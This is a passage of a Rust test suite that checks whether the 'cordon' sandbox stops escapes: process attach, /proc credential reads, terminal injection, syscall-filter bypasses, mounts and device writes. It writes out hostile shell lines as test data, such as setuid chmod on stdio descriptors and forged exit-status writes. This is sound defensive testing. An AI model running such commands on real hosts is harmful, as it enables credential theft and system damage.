        let mut o = c.opts(mode);
        o.expect_error = true; // judge the victim first, even if cordon itself was hit
        let out = c.cordon(&o, &[s(&c.suite.probe), "kill", "-1", "15"])?;
        v.assert_untouched(&format!("kill(-1, SIGTERM) reached a host process ({mode})\n{out:?}"));
        assert!(out.json.as_ref().is_some_and(|j| j.get("exit_code").is_some()), "{out:?}");
    }
});

case!(proc_ptrace_denied, |c| {
    for mode in CONFINED {
        let mut v = c.victim();
        let r = c.probe(mode, "ptrace-attach", &[&v.pid_s()])?;
        v.assert_untouched(&format!("ptrace attach ({mode})"));
        r.assert_refused("ptrace(PTRACE_ATTACH) a host process");
    }
    let v = c.victim();
    c.host_probe("ptrace-attach", &[&v.pid_s()]).assert_ok("control: ptrace attach on the host");
});

case!(proc_vm_readv_denied, |c| {
    for mode in CONFINED {
        let v = c.victim();
        let r = c.probe(mode, "vm-read", &[&v.pid_s(), &v.some_address()])?;
        r.assert_refused("process_vm_readv of a host process");
    }
    let v = c.victim();
    c.host_probe("vm-read", &[&v.pid_s(), &v.some_address()]).assert_ok("control: process_vm_readv on the host");
});

case!(proc_procfs_of_host_processes_denied, |c| {
    for mode in CONFINED {
        let v = c.victim();
        let pid = v.pid_s();
        let env = c.probe(mode, "read", &[&format!("/proc/{pid}/environ")])?;
        assert!(!env.detail.contains(&v.secret), "read a host process's environ: {env:?}");
        env.assert_refused("read /proc/<host pid>/environ");
        c.probe(mode, "proc-mem", &[&pid, &v.some_address()])?.assert_refused("read /proc/<host pid>/mem");
        let cwd = c.probe(mode, "readlink", &[&format!("/proc/{pid}/cwd")])?;
        assert!(!cwd.detail.contains(&v.cwd_tag), "readlink /proc/<host pid>/cwd: {cwd:?}");
        cwd.assert_refused("readlink /proc/<host pid>/cwd");
        c.probe(mode, "ls", &[&format!("/proc/{pid}/root")])?.assert_refused("list /proc/<host pid>/root");
        c.probe(mode, "ls", &[&format!("/proc/{pid}/fd")])?.assert_refused("list /proc/<host pid>/fd");
        let g = c.probe(mode, "proc-grep", &[&v.secret])?;
        g.assert_ok("scan /proc/*/environ");
        assert!(
            g.detail.contains("matches=[]"),
            "some /proc/*/environ visible inside holds the victim's secret: {g:?}"
        );
    }
    let v = c.victim();
    let ctl = c.host_probe("read", &[&format!("/proc/{}/environ", v.pid)]);
    assert!(ctl.ok && ctl.detail.contains(&v.secret), "control: environ readable on the host: {ctl:?}");
});

// The run's init shares cordon's memory where the command gets a Landlock domain
// (then it is not marked non-dumpable: that mark belongs to the memory, so it would be
// cordon's too), and is a non-dumpable copy of cordon where it does not (a host with
// Landlock ABI 1 only, forced here with CORDON_LANDLOCK_ABI_MAX=1 and --best-effort):
// either way nothing of it may be reachable from inside. cordon's own environment holds
// a credential the scrub keeps from the command; the init is the command's parent
// (pid 1 in a run's pid namespace), and its exit-status pipe must not take a forged
// status.
case!(proc_init_unreachable_from_inside, |c| {
    let secret = format!("init-secret-{}", c.unique());
    for (mode, abi1) in CONFINED.iter().flat_map(|m| [(*m, false), (*m, true)]) {
        let mut o = c.opts(mode);
        o.env = vec![("MY_SECRET_TOKEN".into(), secret.clone())];
        if abi1 {
            o.env.push(("CORDON_LANDLOCK_ABI_MAX".into(), "1".into()));
            o.extra_args.push("--best-effort".into());
        }
        let mode = format!("{mode}{}", if abi1 { ", Landlock ABI 1" } else { "" });
        // Zeros (exit status 0) written into every descriptor the init holds.
        let forge = "for f in /proc/$PPID/fd/*; do printf '\\0\\0\\0\\0' > \"$f\"; done 2>/dev/null; exit 7";
        let out = c.cordon(&o, &["/bin/sh", "-c", forge])?;
        let code = out.json.as_ref().and_then(|j| j["exit_code"].as_i64());
        assert_eq!(code, Some(7), "the init's exit-status pipe took a forged status ({mode}): {out:?}");
        let g = c.probe_with(&o, "proc-grep", &[&secret])?;
        g.assert_ok("scan /proc/*/environ");
        assert!(g.detail.contains("matches=[]"), "cordon's credential is readable inside ({mode}): {g:?}");
        if abi1 && c.runner == "bwrap" {
            // Without the stage helper (Landlock ABI < 2) the command's parent is
            // bubblewrap's own pid 1, not cordon's init (outside its pid namespace).
            continue;
        }
        // The parent is there to be named (a refusal below is not a missing process).
        c.probe_with(&o, "stat", &["/proc/@ppid/status"])?.assert_ok("stat the parent's /proc entry");
        let env = c.probe_with(&o, "read", &["/proc/@ppid/environ"])?;
        assert!(!env.detail.contains(&secret), "read the init's environ ({mode}): {env:?}");
        env.assert_refused("read the init's environ");
        let maps = c.probe_with(&o, "read", &["/proc/@ppid/maps"])?;
        maps.assert_refused("read the init's maps");
        c.probe_with(&o, "proc-mem", &["@ppid", "0x400000"])?.assert_refused("read the init's /proc/<pid>/mem");
        c.probe_with(&o, "vm-read", &["@ppid", "0x400000"])?.assert_refused("process_vm_readv of the init");
        c.probe_with(&o, "ptrace-attach", &["@ppid"])?.assert_refused("ptrace the init");
        // (Listing /proc/<init>/fd shows fd numbers only, by file mode; what one holds
        // is behind the same ptrace-style check as the links below.)
        c.probe_with(&o, "readlink", &["/proc/@ppid/exe"])?.assert_refused("readlink the init's exe");
        c.probe_with(&o, "readlink", &["/proc/@ppid/cwd"])?.assert_refused("readlink the init's cwd");
        c.probe_with(&o, "ls", &["/proc/@ppid/root"])?.assert_refused("list the init's root");
    }
    // Control: on the host the same probe reads its parent's environ (a shell of the
    // same identity that does not exec it, started with the same credential).
    let probe = c.suite.probe.to_str().unwrap().to_string();
    let out = c
        .host_cmd("/bin/sh")
        .arg("-c")
        .arg(format!("'{probe}' read /proc/@ppid/environ; exit $?"))
        .env("MY_SECRET_TOKEN", &secret)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success() && text.contains(&secret), "control: a parent's environ on the host: {out:?}");
});

// The command starts with every signal at its default disposition, whatever cordon's
// own were: cordon's runtime ignores SIGPIPE, and an ignored signal survives execve
// (the bwrap runner's stage helper, cordon's binary too, once passed it on: `yes |
// head -1` then saw EPIPE instead of dying of SIGPIPE).
case!(signals_start_at_their_defaults, |c| {
    // Control: this test process (Rust's runtime) ignores SIGPIPE, as cordon does.
    let own = fs::read_to_string("/proc/self/status").unwrap();
    let ignored = |status: &str| {
        status.lines().find_map(|l| l.strip_prefix("SigIgn:")).map(|v| u64::from_str_radix(v.trim(), 16).unwrap())
    };
    assert_ne!(ignored(&own).unwrap() & (1 << (libc::SIGPIPE - 1)), 0, "control: SIGPIPE ignored here");
    for mode in CONFINED {
        let out = c.cordon(&c.opts(mode), &["/bin/cat", "/proc/self/status"])?;
        let text = out.json.as_ref().and_then(|j| j["stdout"]["text"].as_str()).unwrap_or("").to_string();
        assert_eq!(ignored(&text), Some(0), "the command starts with ignored signals ({mode}): {out:?}");
    }
});

// A live run's stdio that is a file is not handed to the command: the descriptor
// would be the host's own mount of it, not the sandbox's read-only view, and the
// command could fchmod it (a setuid file as root), change its times, and below
// Landlock ABI 3 truncate it. Same for a device node (cordon's default stdin used to
// be the host's /dev/null, which root inside could fchmod 0600). Judged by the files'
// modes, times and contents on the host; the command's output and input still flow.
case!(fs_stdio_files_stay_out_of_reach, |c| {
    use std::os::unix::fs::PermissionsExt;
    let mode_of = |p: &Path| fs::metadata(p).unwrap().permissions().mode() & 0o7777;
    let mtime_of = |p: &Path| fs::metadata(p).unwrap().modified().unwrap();
    // (Only fds 0 and 1: the `2>/dev/null` of each line makes fd 2 the host's
    // /dev/null in the control run.)
    let attack = "cat; echo written-by-command; for f in 0 1; do chmod 4777 /proc/self/fd/$f; \
                  touch -d 2001-01-01 /proc/self/fd/$f; done 2>/dev/null; \
                  python3 -c 'import os; [os.fchmod(f, 0o4777) for f in (0, 1)]' 2>/dev/null; \
                  : > /proc/self/fd/0 2>/dev/null; exit 0";
    let setup = |tag: &str| -> (PathBuf, PathBuf) {
        let (inp, out) = (c.outside.join(format!("stdin-{tag}")), c.outside.join(format!("stdout-{tag}")));
        c.host_sh(&format!(
            "printf 'input-line\\n' > '{i}'; : > '{o}'; chmod 0644 '{i}' '{o}'; touch -d 2020-01-01 '{i}'",
            i = inp.display(),
            o = out.display()
        ));
        (inp, out)
    };
    let run = |program: &str, args: &[&str], inp: &Path, out: &Path| {
        let f_out = fs::OpenOptions::new().append(true).open(out).unwrap();
        c.host_cmd(program)
            .args(args)
            .stdin(fs::File::open(inp).unwrap())
            .stdout(f_out.try_clone().unwrap())
            .stderr(f_out)
            .status()
            .unwrap()
    };
    // Control: the same commands on the host change both files (the test can fail).
    let (inp, out) = setup("host");
    run("/bin/sh", &["-c", attack], &inp, &out);
    assert_eq!(mode_of(&out) & 0o4000, 0o4000, "control: fchmod of stdout on the host");
    assert_eq!(fs::read_to_string(&inp).unwrap(), "", "control: truncating stdin on the host");
    let cordon = c.suite.cordon.to_str().unwrap().to_string();
    for mode in CONFINED {
        let (inp, out) = setup(mode);
        let before = mtime_of(&inp);
        let argv =
            ["run", "--mode", mode, "--runner", &c.runner, "--stdin", "--timeout", "30", "--", "/bin/sh", "-c", attack];
        let st = run(&cordon, &argv, &inp, &out);
        assert_eq!(mode_of(&out), 0o644, "stdout's mode changed from inside ({mode}): {st:?}");
        assert_eq!(mode_of(&inp), 0o644, "stdin's mode changed from inside ({mode})");
        assert_eq!(mtime_of(&inp), before, "stdin's times changed from inside ({mode})");
        assert_eq!(fs::read_to_string(&inp).unwrap(), "input-line\n", "stdin truncated from inside ({mode})");
        let text = fs::read_to_string(&out).unwrap();
        assert!(
            text.contains("input-line\nwritten-by-command\n"),
            "positive control: the streams flow ({mode}): {text:?}"
        );
    }
    // A device node as stdin (as root only: mknod), owned by the identity.
    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        let node = c.outside.join("null-node");
        let path = std::ffi::CString::new(node.to_str().unwrap()).unwrap();
        // SAFETY: mknod with a valid path and a device number (1, 3: the null device).
        assert_eq!(unsafe { libc::mknod(path.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(1, 3)) }, 0);
        c.chown_to_me(&node);
        fs::set_permissions(&node, fs::Permissions::from_mode(0o666)).unwrap();
        for mode in CONFINED {
            let f = fs::File::open(&node).unwrap();
            let o = RunOpts { stdin: Some(std::sync::Arc::new(f.into())), ..c.opts(mode) };
            let mut o = o;
            o.extra_args.push("--stdin".into());
            c.cordon(
                &o,
                &["/bin/sh", "-c", "chmod 0600 /proc/self/fd/0; python3 -c 'import os; os.fchmod(0, 0o600)'"],
            )?;
            assert_eq!(mode_of(&node), 0o666, "a device node given as stdin changed mode from inside ({mode})");
        }
        // And the default stdin (no --stdin) is /dev/null (a character device: tools
        // such as ripgrep read a pipe instead of searching), but not one root inside
        // can change: setting its times is the harmless probe (mode changes would
        // break the host if they got through).
        let before = mtime_of(Path::new("/dev/null"));
        let out = c.cordon(
            &c.opts(READ_ONLY),
            &["/bin/sh", "-c", "ls -lL /proc/self/fd/0; touch -d 2001-01-01 /proc/self/fd/0"],
        )?;
        let text = out.json.as_ref().and_then(|j| j["stdout"]["text"].as_str()).unwrap_or("").to_string();
        assert!(text.starts_with('c'), "the default stdin is not a character device: {text:?}");
        assert_eq!(mtime_of(Path::new("/dev/null")), before, "the host's /dev/null changed from inside: {out:?}");
        fs::remove_file(&node).unwrap();
    }
});

case!(proc_priority_and_rlimit_denied, |c| {
    // A nice value the victim does not have already (the suite itself may run under
    // `nice`, which the victim inherits): the observer would be blind otherwise.
    let other_nice = |now: &str| if now.trim() == "19" { "18" } else { "19" };
    for mode in CONFINED {
        let v = c.victim();
        let (nice, limits) = (v.nice(), v.limits());
        let r1 = c.probe(mode, "setpriority", &[&v.pid_s(), other_nice(&nice)])?;
        let r2 = c.probe(mode, "prlimit", &[&v.pid_s(), "17"])?;
        assert_eq!(v.nice(), nice, "setpriority changed a host process's nice value\n{r1:?}");
        assert_eq!(v.limits(), limits, "prlimit changed a host process's limits\n{r2:?}");
        r1.assert_refused("setpriority of a host process");
        r2.assert_refused("prlimit of a host process");
    }
    let v = c.victim();
    let nice = v.nice();
    c.host_probe("setpriority", &[&v.pid_s(), other_nice(&nice)]).assert_ok("control: setpriority on the host");
    assert_ne!(v.nice(), nice, "control: nice value observer is blind");
});

case!(proc_setns_denied, |c| {
    let v = c.victim();
    for mode in CONFINED {
        for ns in ["/proc/self/ns/net", "/proc/self/ns/mnt", "/proc/self/ns/user"] {
            c.probe(mode, "setns", &[ns])?.assert_refused(&format!("setns({ns})"));
        }
        c.probe(mode, "setns", &[&format!("/proc/{}/ns/mnt", v.pid)])?
            .assert_refused("setns into a host process's mount ns");
    }
    if c.id.is_root() {
        c.host_probe("setns", &["/proc/self/ns/net"]).assert_ok("control: setns on the host (root)");
    }
});

/// Host pids whose command line mentions `marker` (processes left behind by a run).
fn host_pids_with(marker: &str) -> Vec<String> {
    let mut v = vec![];
    for e in fs::read_dir("/proc").unwrap().flatten() {
        let name = e.file_name().to_string_lossy().to_string();
        if !name.bytes().all(|b| b.is_ascii_digit()) {
            continue;
        }
        if let Ok(cmd) = fs::read(e.path().join("cmdline")) {
            if String::from_utf8_lossy(&cmd).contains(marker) {
                v.push(name);
            }
        }
    }
    v
}

case!(proc_nothing_outlives_the_run, |c| {
    let mut checks = vec![];
    for mode in CONFINED {
        // The survivor's path argument is unique, so it is findable in host
        // /proc/*/cmdline (any mode); in workspace-write its late write could also land.
        let w = c.ws.join(format!("lifetime-{mode}"));
        c.mkdir(&w);
        for op in ["daemonize", "background"] {
            let p = w.join(format!("{op}-survived-{}", c.unique()));
            let r = c.probe(mode, op, &["1000", s(&p)])?;
            r.assert_ok(&format!("{op}: forking must work"));
            let left = host_pids_with(s(&p));
            assert!(left.is_empty(), "{op} ({mode}): processes {left:?} outlived the run\n{r:?}");
            checks.push((p, SystemTime::now(), format!("{op} ({mode})")));
        }
    }
    let ctl = c.outside.join("control-daemon-survived");
    c.host_probe("daemonize", &["1000", s(&ctl)]).assert_ok("control daemonize");
    std::thread::sleep(Duration::from_millis(2500));
    assert!(ctl.exists(), "control: a host daemon should have written {} by now", ctl.display());
    for (p, ended, what) in checks {
        if let Ok(m) = fs::metadata(&p) {
            let written = m.modified().unwrap();
            assert!(
                written <= ended,
                "{what}: a process started inside the sandbox wrote {} after the run ended",
                p.display()
            );
        }
    }
});

case!(proc_killing_cordon_kills_the_sandbox, |c| {
    // cordon itself dies (SIGKILL, no cleanup): what it started must not live on.
    use std::os::unix::process::CommandExt;
    for mode in CONFINED {
        let mark = c.ws.join(format!("orphan-{}", c.unique()));
        let script = format!(
            "'{p}' daemonize 20000 '{m}-daemon' >/dev/null; exec '{p}' sleep 20000 '{m}-main'",
            p = s(&c.suite.probe),
            m = s(&mark)
        );
        let mut cmd = std::process::Command::new(&c.suite.cordon);
        cmd.env_clear().env("PATH", "/usr/bin:/bin").env("HOME", &c.id.home);
        // SAFETY: geteuid has no preconditions and cannot fail.
        if c.id.uid != unsafe { libc::geteuid() } {
            cmd.uid(c.id.uid).gid(c.id.gid);
        }
        cmd.args(["run", "--json", "--mode", mode, "--cwd", s(&c.ws), "--", "/bin/sh", "-c", &script])
            .current_dir(&c.ws)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null());
        let mut child = cmd.spawn().unwrap();
        let marker = s(&mark).to_string();
        let started = std::time::Instant::now();
        while host_pids_with(&marker).len() < 2 && started.elapsed() < Duration::from_secs(10) {
            std::thread::sleep(Duration::from_millis(20));
        }
        let before = host_pids_with(&marker);
        child.kill().unwrap();
        child.wait().unwrap();
        let deadline = std::time::Instant::now() + Duration::from_secs(3);
        let mut left = host_pids_with(&marker);
        while !left.is_empty() && std::time::Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(20));
            left = host_pids_with(&marker);
        }
        for pid in &left {
            let _ = std::process::Command::new("kill").args(["-9", pid]).status();
        }
        if before.is_empty() {
            return Err(Skip(format!("the sandboxed processes never appeared ({mode})")));
        }
        assert!(left.is_empty(), "processes {left:?} outlived a SIGKILLed cordon ({mode}; were {before:?})");
    }
});

// =====================================================================================
// 6. Terminal injection: TIOCSTI, TIOCLINUX, including the high-bit ioctl variant.
// =====================================================================================

case!(tty_ioctls_filtered_even_on_non_tty, |c| {
    // On /dev/null the kernel answers ENOTTY; any other refusal is the filter's.
    for mode in CONFINED {
        for op in ["tiocsti", "tiocsti-hi", "tioclinux", "tioclinux-hi"] {
            let r = c.probe(mode, op, &["/dev/null"])?;
            r.assert_refused(op);
            assert!(
                r.errname != "ENOTTY",
                "{op} reached the kernel (ENOTTY from /dev/null): seccomp does not filter it\n{r:?}"
            );
        }
    }
    let ctl = c.host_probe("tiocsti-hi", &["/dev/null"]);
    assert_eq!(ctl.errname, "ENOTTY", "control: unfiltered host answers ENOTTY: {ctl:?}");
});

case!(tty_tiocsti_into_a_host_pty_denied, |c| {
    for mode in CONFINED {
        for op in ["tiocsti", "tiocsti-hi"] {
            let pty = Pty::new(c)?;
            let r = c.probe(mode, op, &[s(&pty.slave_path), "echo cordon-injected\n"])?;
            let got = pty.pending_input(200);
            assert!(!got.contains("cordon-injected"), "{op}: injected {got:?} into a host terminal ({mode})\n{r:?}");
            r.assert_refused(op);
        }
    }
    for op in ["tiocsti", "tiocsti-hi"] {
        let pty = Pty::new(c)?;
        c.host_probe(op, &[s(&pty.slave_path), "cordon-control"]).assert_ok(&format!("control: {op} on the host"));
        assert!(pty.pending_input(500).contains("cordon-control"), "control: {op} observer is blind");
    }
});

case!(tty_tiocsti_via_inherited_stdin_denied, |c| {
    for mode in CONFINED {
        let pty = Pty::new(c)?;
        let mut o = c.opts(mode);
        o.stdin = Some(pty.slave.clone());
        let r = c.probe_with(&o, "tiocsti-hi", &["-", "echo cordon-injected\n"])?;
        let got = pty.pending_input(200);
        if r.errname == "ENOTTY" {
            // cordon did not hand the terminal itself to the command (stdin is a pipe or
            // /dev/null inside): nothing to inject into, which is fine.
            loud(&format!("NOTE tty_tiocsti_via_inherited_stdin_denied: stdin inside is not a tty ({mode})"));
        }
        assert!(!got.contains("cordon-injected"), "TIOCSTI via stdin injected {got:?} ({mode})\n{r:?}");
        r.assert_refused("TIOCSTI on an inherited terminal stdin");
    }
});

// =====================================================================================
// 7. Syscall paths that bypass filters: io_uring, i386/x32 ABIs, clone3.
// =====================================================================================

case!(abi_io_uring_denied, |c| {
    for mode in CONFINED {
        c.probe(mode, "io_uring", &[])?.assert_refused_with(FILTERED, "io_uring_setup");
    }
    c.host_probe("io_uring", &[]).assert_ok("control: io_uring on the host");
});

case!(abi_i386_entry_denied, |c| {
    for mode in CONFINED {
        c.probe(mode, "i386-getpid", &[])?.assert_refused_with(FILTERED, "int 0x80 getpid");
        c.probe(mode, "i386-unshare-user", &[])?.assert_refused_with(FILTERED, "int 0x80 unshare(CLONE_NEWUSER)");
        for op in ["i386-udp", "i386-udp-socketcall"] {
            let t = UdpTrap::v4();
            let r = c.probe(mode, op, &[&t.port_s()])?;
            t.assert_untouched(&format!("{op} ({mode})"));
            r.assert_refused_with(FILTERED, op);
        }
        let t = TcpTrap::v4();
        let r = c.probe(mode, "i386-tcp", &[&t.port_s()])?;
        t.assert_untouched(&format!("i386-tcp ({mode})"));
        r.assert_refused_with(FILTERED, "i386-tcp");
    }
    let ctl = c.host_probe("i386-getpid", &[]);
    if !ctl.ok {
        return Err(Skip(format!("host has no i386 entry point (IA32 emulation off?): {ctl:?}")));
    }
    let t = UdpTrap::v4();
    c.host_probe("i386-udp", &[&t.port_s()]).assert_ok("control: i386 UDP on the host");
    assert!(t.received(), "control: i386 UDP observer is blind");
});

case!(abi_x32_entry_denied, |c| {
    for mode in CONFINED {
        c.probe(mode, "x32-getpid", &[])?.assert_refused_with(FILTERED, "x32 getpid");
        c.probe(mode, "x32-unshare-user", &[])?.assert_refused_with(FILTERED, "x32 unshare");
        let t = UdpTrap::v4();
        let r = c.probe(mode, "x32-udp", &[&t.port_s()])?;
        t.assert_untouched("x32 UDP");
        r.assert_refused_with(FILTERED, "x32 UDP");
    }
    if !c.host_probe("x32-getpid", &[]).ok {
        // Still asserted above, but this kernel cannot show a bypass (CONFIG_X86_X32_ABI off).
        loud("NOTE abi_x32_entry_denied: host kernel has no x32 ABI; the refusal inside is the kernel's");
    }
});

case!(abi_clone3_and_namespace_clones_denied, |c| {
    for mode in CONFINED {
        // clone3 must be ENOSYS (so libc falls back to clone, where flags are visible).
        c.probe(mode, "clone3", &[])?.assert_refused_with(&["ENOSYS"], "clone3");
        c.probe(mode, "clone3-userns", &[])?.assert_refused_with(FILTERED, "clone3(CLONE_NEWUSER)");
        c.probe(mode, "clone-userns", &[])?.assert_refused_with(FILTERED, "clone(CLONE_NEWUSER)");
        c.probe(mode, "clone-netns", &[])?.assert_refused("clone(CLONE_NEWNET)");
        c.probe(mode, "fork", &[])?.assert_ok("plain fork must keep working");
    }
    for op in ["clone3", "clone3-userns", "clone-userns"] {
        c.host_probe(op, &[]).assert_ok(&format!("control: {op} on the host"));
    }
});

// =====================================================================================
// 8. Privilege: capabilities, no_new_privs, user namespaces, bpf, perf, userfaultfd,
//    keyrings, mounts, device nodes.
// =====================================================================================

case!(priv_no_capabilities_nnp_and_seccomp, |c| {
    for mode in CONFINED {
        let r = c.probe(mode, "caps", &[])?;
        r.assert_ok("read /proc/self/status");
        let f = status_fields(&r.detail);
        for k in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
            assert_eq!(f.get(k).map(String::as_str), Some("0000000000000000"), "{k} not empty ({mode}): {r:?}");
        }
        assert_eq!(f.get("NoNewPrivs").map(String::as_str), Some("1"), "no_new_privs unset: {r:?}");
        assert_eq!(f.get("Seccomp").map(String::as_str), Some("2"), "no seccomp filter: {r:?}");
        c.probe(mode, "nnp", &[])?.assert_ok("prctl").detail.contains("nnp=1").then_some(()).expect("nnp=1");
    }
    let host = status_fields(&c.host_probe("caps", &[]).detail);
    assert_ne!(host.get("CapBnd").map(String::as_str), Some("0000000000000000"), "control: host bounding set");
});

unpriv_case!(priv_setuid_binary_grants_nothing, |c| {
    let Some(suid) = c.suite.probe_suid.clone() else { return Err(Skip("no setuid probe".into())) };
    let host = c.host_cmd(&suid).arg("ids").output().unwrap();
    let host = String::from_utf8_lossy(&host.stdout).to_string();
    if !host.contains("euid=0") {
        return Err(Skip(format!("setuid does not work in the suite dir (nosuid?): {host}")));
    }
    for mode in CONFINED {
        let r = c.probe_bin_with(&suid, &c.opts(mode), "ids", &[])?;
        assert!(!r.detail.contains("euid=0"), "a setuid-root binary gained root inside ({mode}): {r:?}");
    }
});

case!(priv_user_namespaces_denied, |c| {
    for mode in CONFINED {
        for ns in ["user", "net", "ns", "user,net", "ipc", "pid"] {
            c.probe(mode, "unshare", &[ns])?.assert_refused(&format!("unshare({ns})"));
        }
    }
    c.host_probe("unshare", &["user"]).assert_ok("control: unshare(CLONE_NEWUSER) on the host");
});

case!(priv_bpf_perf_userfaultfd_denied, |c| {
    for op in ["bpf", "perf", "userfaultfd"] {
        let host = c.host_probe(op, &[]);
        for mode in CONFINED {
            let r = c.probe(mode, op, &[])?;
            r.assert_refused(op);
            if host.ok {
                r.assert_refused_with(FILTERED, op);
            }
        }
        if op != "bpf" || c.id.is_root() {
            host.assert_ok(&format!("control: {op} on the host"));
        }
    }
});

case!(priv_keyrings_denied, |c| {
    for mode in CONFINED {
        let desc = format!("cordon-test-{}", c.unique());
        let r = c.probe(mode, "add-key", &[&desc])?;
        let found = c.host_probe("key-search", &[&desc, "purge"]);
        assert!(!found.ok, "add_key from inside landed in the host user keyring ({mode}): {r:?}");
        r.assert_refused_with(FILTERED, "add_key");
        c.probe(mode, "keyctl", &[])?.assert_refused_with(FILTERED, "keyctl");
    }
    let desc = format!("cordon-test-{}", c.unique());
    c.host_probe("add-key", &[&desc]).assert_ok("control: add_key on the host");
    c.host_probe("key-search", &[&desc, "purge"]).assert_ok("control: key visible on the host");
});

/// Refuses to go on unless the probe really runs confined (no effective capabilities):
/// some cases attempt operations that must never run as root on the host itself.
fn require_confined(c: &Ctx, mode: &str) -> Result<(), Skip> {
    let r = c.probe(mode, "caps", &[])?;
    let f = status_fields(&r.detail);
    assert_eq!(
        f.get("CapEff").map(String::as_str),
        Some("0000000000000000"),
        "not attempting host-damaging operations: the command runs with capabilities ({mode}): {r:?}"
    );
    Ok(())
}

case!(priv_mounts_and_chroot_denied, |c| {
    for mode in CONFINED {
        require_confined(c, mode)?;
        let mnt = c.ws.join(format!("mnt-{mode}"));
        c.mkdir(&mnt);
        c.probe(mode, "mount-tmpfs", &[s(&mnt)])?.assert_refused("mount tmpfs");
        let f = c.outside.join(format!("remount-{mode}"));
        c.probe(mode, "remount-write", &["/", s(&f)])?.assert_refused("remount / rw then write");
        assert_absent(&f, "remount / rw");
        let f2 = c.outside.join(format!("umount-{mode}"));
        c.probe(mode, "umount-write", &["/", s(&f2)])?.assert_refused("umount / then write");
        assert_absent(&f2, "umount /");
        c.probe(mode, "chroot", &[s(&c.ws)])?.assert_refused("chroot");
    }
});

case!(priv_device_nodes_denied, |c| {
    for mode in CONFINED {
        for dir in [&c.ws, &c.outside] {
            let node = dir.join(format!("null-{mode}"));
            c.probe(mode, "mknod", &[s(&node)])?.assert_refused("mknod a character device");
            assert_absent(&node, "mknod");
        }
    }
    if c.id.is_root() {
        let node = c.outside.join("control-node");
        c.host_probe("mknod", &[s(&node)]).assert_ok("control: mknod as root on the host");
        let _ = fs::remove_file(node);
    }
});

case!(priv_existing_device_nodes_not_writable, |c| {
    // Opened for writing only; nothing is ever written.
    let devs = [
        "/dev/loop0",
        "/dev/loop-control",
        "/dev/kvm",
        "/dev/tty1",
        "/dev/vda",
        "/dev/sda",
        "/dev/fuse",
        "/dev/net/tun",
    ];
    for mode in CONFINED {
        for d in devs {
            if !Path::new(d).exists() {
                continue;
            }
            c.probe(mode, "open-w", &[d])?.assert_refused(&format!("open {d} for writing"));
        }
        c.probe(mode, "userfaultfd-dev", &[])?.assert_refused("userfaultfd via /dev/userfaultfd");
        c.probe(mode, "open-w", &["/dev/null"])?.assert_ok("/dev/null stays writable");
    }
    if c.id.is_root() && Path::new("/dev/loop0").exists() {
        c.host_probe("open-w", &["/dev/loop0"]).assert_ok("control: root opens /dev/loop0 for writing on the host");
    }
});

/// A FIFO made on the host by the identity, with a host-side reader opened
/// non-blocking (so a writer's open inside does not block, and whatever it writes
/// stays in the pipe for [`HostFifo::received`]).
struct HostFifo {
    path: PathBuf,
    reader: fs::File,
}

impl HostFifo {
    fn new(c: &Ctx, path: &Path) -> HostFifo {
        c.host_sh(&format!("mkfifo -m 0666 '{}'", path.display()));
        use std::os::unix::fs::OpenOptionsExt;
        let reader = fs::OpenOptions::new()
            .read(true)
            .custom_flags(libc::O_NONBLOCK)
            .open(path)
            .unwrap_or_else(|e| panic!("open the host reader of {}: {e}", path.display()));
        HostFifo { path: path.to_path_buf(), reader }
    }

    /// Every byte written into the FIFO so far.
    fn received(&mut self) -> Vec<u8> {
        use std::io::Read;
        let mut out = Vec::new();
        let mut buf = [0u8; 4096];
        while let Ok(n) = self.reader.read(&mut buf) {
            if n == 0 {
                break;
            }
            out.extend_from_slice(&buf[..n]);
        }
        out
    }
}

case!(fs_host_fifo_outside_receives_nothing, |c| {
    // A read-only bind stops writes to regular files but not opening an existing FIFO
    // for writing (as root that reaches /run/initctl). Landlock refuses the open.
    for how in BOTH_AND_HOST {
        let f = fx(c, how);
        let mut fifo = HostFifo::new(c, &f.out.join("fifo"));
        let r = attempt(c, how, "append", &[s(&fifo.path), "pwned"])?;
        let got = fifo.received();
        if is_control(how, &r, "write into a host FIFO") {
            assert!(!got.is_empty(), "control: the host reader received nothing");
            continue;
        }
        assert!(
            got.is_empty(),
            "a host FIFO reader received {:?} from inside the sandbox ({how})\n{r:?}",
            String::from_utf8_lossy(&got)
        );
        r.assert_refused_with(&["EACCES"], "open a host FIFO outside the writable roots for writing");
    }
    // Inside the workspace: usable in workspace-write (the control), refused in read-only.
    for mode in CONFINED {
        let f = fx(c, &format!("ws-{mode}"));
        let mut fifo = HostFifo::new(c, &f.ws.join("fifo"));
        let r = c.probe(mode, "append", &[s(&fifo.path), "hello"])?;
        let got = fifo.received();
        if mode == WORKSPACE_WRITE {
            r.assert_ok("write into a FIFO inside the workspace in workspace-write");
            assert!(!got.is_empty(), "the FIFO inside the workspace delivered nothing");
        } else {
            assert!(got.is_empty(), "a read-only workspace's FIFO received {got:?}\n{r:?}");
            r.assert_refused_with(&["EACCES"], "write into a FIFO of a read-only workspace");
        }
    }
});

case!(fs_fifo_in_read_only_workspace_under_tmp_unwritable, |c| {
    // A read-only workspace under /tmp is attached inside the private tmpfs. Landlock
    // grants no writes beneath that tmpfs then (TMPDIR moves to the private
    // /dev/shm), so a FIFO in the workspace stays unwritable, in hard mode as well:
    // the run goes ahead, and the FIFO receives nothing.
    let ws = PathBuf::from(format!("/tmp/cordon-tests-{}-{}", std::process::id(), c.unique()));
    c.mkdir(&ws);
    struct Rm(PathBuf);
    impl Drop for Rm {
        fn drop(&mut self) {
            let _ = fs::remove_dir_all(&self.0);
        }
    }
    let _rm = Rm(ws.clone());
    let mut fifo = HostFifo::new(c, &ws.join("fifo"));
    let hard = opts_at(c, READ_ONLY, &ws);
    match c.probe_or_refusal(&hard, "append", &[s(&fifo.path), "pwned"])? {
        Err(out) => panic!("a read-only workspace under /tmp must run: {out:?}"),
        Ok(r) => {
            let got = fifo.received();
            assert!(got.is_empty(), "the read-only workspace's FIFO received {got:?}\n{r:?}");
            r.assert_refused_with(&["EACCES"], "write into a FIFO of a read-only workspace under /tmp");
            assert!(!gap_names(r.run.as_ref().unwrap()).iter().any(|g| g == "fs-write"), "{r:?}");
        }
    }
    // The private TMPDIR is still writable (elsewhere), and private.
